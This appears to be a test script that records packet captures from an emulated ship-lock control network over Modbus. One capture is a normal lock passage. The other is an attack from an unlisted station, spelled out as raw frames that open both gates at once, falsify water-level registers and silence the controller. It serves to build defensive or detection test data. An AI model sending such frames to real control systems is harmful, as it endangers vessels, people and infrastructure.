#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Zone priv-lock: control network of a ship lock, 10.40.0.0/16, the same addresses as the
# container terminal: an address alone names nothing, only (zone, address) does.
#   10.40.1.20  PLC of gates and valves   10.40.1.5  operator's panel (may write)
#   10.40.1.88  a station that is on no list
# Coils 0-3: gate leaf open; 4-7: valve open. Registers 100 and 101: water levels, mm.
. "$(dirname "$0")/lib.sh"

PLC=10.40.1.20
HMI=10.40.1.5
STRANGER=10.40.1.88
DIR=$PCAPS_DIR/priv-lock
MB="python3 $MAKE_DIR/modbus.py"

wire_up "$PLC" "$HMI $STRANGER"
serve inside 502 $MB serve $PLC

record_start "$DIR/01-passage.pcap"
outside $HMI $MB poll $HMI $PLC 8 0.2
# One passage: valves open, level, valves shut, gate leaves open and shut.
for order in 050004ff00 0500040000 050000ff00 0500000000; do
	outside $HMI $MB send $HMI $PLC $order 0100000008 0300640002 >/dev/null
	pause 0.6
done
outside $HMI $MB poll $HMI $PLC 8 0.2
record_stop

record_start "$DIR/02-gate.pcap"
outside $HMI $MB poll $HMI $PLC 4 0.2
# Upper and lower gate opened together, water level falsified, controller silenced.
outside $STRANGER $MB send $STRANGER $PLC 0100000008 050000ff00 050001ff00 050002ff00 \
    050003ff00 050004ff00 050005ff00 0f0000000801ff 10006400020400000000 0800040000 0800010000 \
    080a000000 5a0041 >/dev/null || true
outside $HMI $MB poll $HMI $PLC 4 0.2
record_stop
wire_down
